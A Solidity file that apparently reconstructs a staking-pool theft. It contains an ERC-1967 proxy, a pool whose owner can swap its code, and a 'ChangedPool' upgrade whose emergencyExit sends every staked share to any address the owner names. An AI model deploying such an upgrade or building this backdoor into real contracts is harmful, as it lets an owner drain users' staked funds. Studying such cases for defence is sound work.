// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.28;

import {IToken} from "./Exchange.sol";

/// A proxy by ERC-1967: the address of the code that it borrows stands in the slot that the
/// standard names.
contract Proxy {
    bytes32 private constant SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    event Upgraded(address indexed implementation);

    constructor(address implementation, bytes memory data) {
        assembly {
            sstore(SLOT, implementation)
        }
        emit Upgraded(implementation);
        (bool done,) = implementation.delegatecall(data);
        require(done, "initialize");
    }

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let done := delegatecall(gas(), sload(SLOT), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch done
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// Holds the shares that users stake. Whoever owns it may replace its code: the weakness that the
/// theft used.
contract StakingPool {
    bytes32 private constant SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    address public owner;
    address public shares;
    mapping(address => uint256) public staked;

    event Upgraded(address indexed implementation);
    event Staked(address indexed user, uint256 amount);
    event Withdrawn(address indexed user, uint256 amount);

    function initialize(address owner_, address shares_) external {
        require(owner == address(0), "initialized");
        owner = owner_;
        shares = shares_;
    }

    function upgradeTo(address implementation) external {
        require(msg.sender == owner, "owner");
        assembly {
            sstore(SLOT, implementation)
        }
        emit Upgraded(implementation);
    }

    function stake(uint256 amount) external {
        staked[msg.sender] += amount;
        IToken(shares).transferFrom(msg.sender, address(this), amount);
        emit Staked(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        staked[msg.sender] -= amount;
        IToken(shares).transfer(msg.sender, amount);
        emit Withdrawn(msg.sender, amount);
    }
}

/// The changed source code: the same pool with a way out for everything in it.
contract ChangedPool is StakingPool {
    function emergencyExit(address to) external {
        require(msg.sender == owner, "owner");
        IToken(shares).transfer(to, IToken(shares).balanceOf(address(this)));
    }
}
